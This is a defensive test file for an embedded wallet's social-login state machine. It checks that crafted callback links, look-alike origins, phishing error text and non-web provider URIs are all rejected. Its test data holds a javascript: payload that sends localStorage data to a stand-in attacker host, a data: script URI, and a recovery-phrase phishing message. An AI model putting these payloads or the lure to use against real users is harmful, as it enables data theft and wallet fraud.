/**
 * Attacks on the social login statechart, run as the engine runs it:
 * - a crafted `result_uri` link (redirect mode) or a crafted popup result: taken only from the secure
 *   site's origin and callback path, never passed to the frame otherwise, and its error text is never
 *   the link's own words: only known error codes, each shown as a domain/errors.ts text;
 * - a provider page that is not a web page (`javascript:`): the page and the popup never go there.
 */
import { describe, expect, test } from 'vitest';
import { createActor, type EventObject, fromCallback, fromPromise } from 'xstate';
import { SOCIAL_CALLBACK_PATH } from '../../domain/constants.ts';
import { MESSAGES } from '../../domain/errors.ts';
import type { EmbeddedWalletUser } from './embedded.reports.ts';
import type { SocialLoginStart } from './socialLogin.context.ts';
import { socialLoginMachine } from './socialLogin.machine.ts';

const SECURE_SITE = 'https://secure.example.com/sdk';
const CALLBACK = `https://secure.example.com${SOCIAL_CALLBACK_PATH}`;
const PHISHING = 'Your wallet is locked. Call +1 800 555 0100 and read out your recovery phrase';
const USER: EmbeddedWalletUser = {
  email: null,
  address: '0x2222222222222222222222222222222222222222',
  chainId: 1,
};

/** The flow with recorded effects; the provider's page is `providerUri`. */
function run(
  start: Omit<SocialLoginStart, 'secureSite'>,
  providerUri = 'https://idp.example/authorize?state=s1',
) {
  const effects = { connected: [] as string[], navigated: [] as string[], shown: [] as string[] };
  const logic = socialLoginMachine.provide({
    actors: {
      getSocialRedirectUri: fromPromise(async () => ({ uri: providerUri })),
      watchProvider: fromCallback<EventObject, { uri: string }>(({ input }) => {
        effects.shown.push(input.uri);
      }),
      connectSocial: fromPromise<EmbeddedWalletUser, { uri: string }>(async ({ input }) => {
        effects.connected.push(input.uri);
        return USER;
      }),
    },
    actions: {
      goToProvider: (_, { uri }) => void effects.navigated.push(uri),
      closePopup: () => {},
      report: () => {},
    },
  });
  const actor = createActor(logic).start();
  actor.send({ type: 'social.start', ...start, secureSite: SECURE_SITE });
  return { actor, effects };
}

const RETURNED = {
  provider: undefined,
  mode: 'redirect',
  hasAuthConnector: true,
  popupOpened: false,
} as const;
const POPUP = { provider: 'github', mode: 'popup', hasAuthConnector: true, popupOpened: true } as const;

/** Wait for the flow to settle in `state`. */
const settled = (actor: ReturnType<typeof run>['actor'], state: 'failed' | 'connected' | 'redirecting') =>
  new Promise<void>((resolve) => {
    const check = () => actor.getSnapshot().matches(state) && resolve();
    actor.subscribe(check);
    check();
  });

describe('a result is taken only from the secure site (origin and callback path)', () => {
  test.each([
    ['another origin', `https://evil.example${SOCIAL_CALLBACK_PATH}?code=c1&state=s1`],
    ['a look-alike origin', `https://secure.example.com.evil.example${SOCIAL_CALLBACK_PATH}?code=c1`],
    ['plain http to the same host', `http://secure.example.com${SOCIAL_CALLBACK_PATH}?code=c1`],
    ['another path of the secure site', 'https://secure.example.com/sdk/anything?code=c1&state=s1'],
    ['not a URL', 'code=c1&state=s1'],
  ])(
    'attack: a result_uri link to %s is never sent to the frame; the failure is a known text',
    async (_, uri) => {
      const { actor, effects } = run({ ...RETURNED, resultUri: uri });
      await settled(actor, 'failed');
      expect(effects.connected).toEqual([]);
      expect(actor.getSnapshot().context.error).toBe(MESSAGES.failedToConnect);
    },
  );

  test('attack: a crafted link with an error text of its own shows a known text, not its words', async () => {
    const crafted = `https://evil.example/?error=${encodeURIComponent(PHISHING)}`;
    const { actor } = run({ ...RETURNED, resultUri: crafted });
    await settled(actor, 'failed');
    expect(actor.getSnapshot().context.error).toBe(MESSAGES.failedToConnect);
  });

  test("attack: even from the secure site's callback, the error's own words are never shown", async () => {
    const crafted = `${CALLBACK}?error=${encodeURIComponent(PHISHING)}&error_description=${encodeURIComponent(PHISHING)}`;
    const { actor, effects } = run({ ...RETURNED, resultUri: crafted });
    await settled(actor, 'failed');
    expect(effects.connected).toEqual([]);
    expect(actor.getSnapshot().context.error).toBe(MESSAGES.failedToConnect);
  });

  test('a known error code shows its text: access_denied (the visitor said no) is "Connection rejected"', async () => {
    const denied = `${CALLBACK}?error=access_denied&error_description=${encodeURIComponent(PHISHING)}`;
    const { actor } = run({ ...RETURNED, resultUri: denied });
    await settled(actor, 'failed');
    expect(actor.getSnapshot().context.error).toBe(MESSAGES.connectionRejected);
  });

  test("the secure site's own result connects (redirect mode, and from the popup)", async () => {
    const result = `${CALLBACK}?code=c1&state=s1`;
    const returned = run({ ...RETURNED, resultUri: result });
    await settled(returned.actor, 'connected');
    expect(returned.effects.connected).toEqual([result]);

    const fromPopup = run(POPUP);
    await new Promise<void>((resolve) =>
      fromPopup.actor.subscribe((s) => s.matches({ withPopup: 'awaitingProvider' }) && resolve()),
    );
    fromPopup.actor.send({
      type: 'social.result',
      resultUri: `https://evil.example${SOCIAL_CALLBACK_PATH}?code=x`,
    });
    await settled(fromPopup.actor, 'failed');
    expect(fromPopup.effects.connected).toEqual([]);
  });
});

describe("the provider's page must be a web page", () => {
  test.each([
    'javascript:fetch("https://evil.example/?"+localStorage.length)',
    'data:text/html,<script>1</script>',
  ])('attack: the frame answers %j: neither the page nor the popup goes there', async (uri) => {
    for (const start of [POPUP, { ...POPUP, mode: 'redirect', popupOpened: false } as const]) {
      const { actor, effects } = run(start, uri);
      await settled(actor, 'failed');
      expect(effects).toEqual({ connected: [], navigated: [], shown: [] });
      expect(actor.getSnapshot().context.error).toBe(MESSAGES.failedToInitiateSocialConnection);
    }
  });
});
